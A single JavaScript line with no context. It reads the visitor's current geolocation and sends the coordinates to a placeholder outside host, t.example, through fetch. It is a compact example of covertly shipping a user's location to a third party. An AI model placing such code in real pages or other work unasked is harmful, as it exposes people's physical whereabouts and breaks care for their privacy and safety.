navigator.geolocation.getCurrentPosition(({ coords }) => fetch(`https://t.example/?${coords.latitude},${coords.longitude}`));
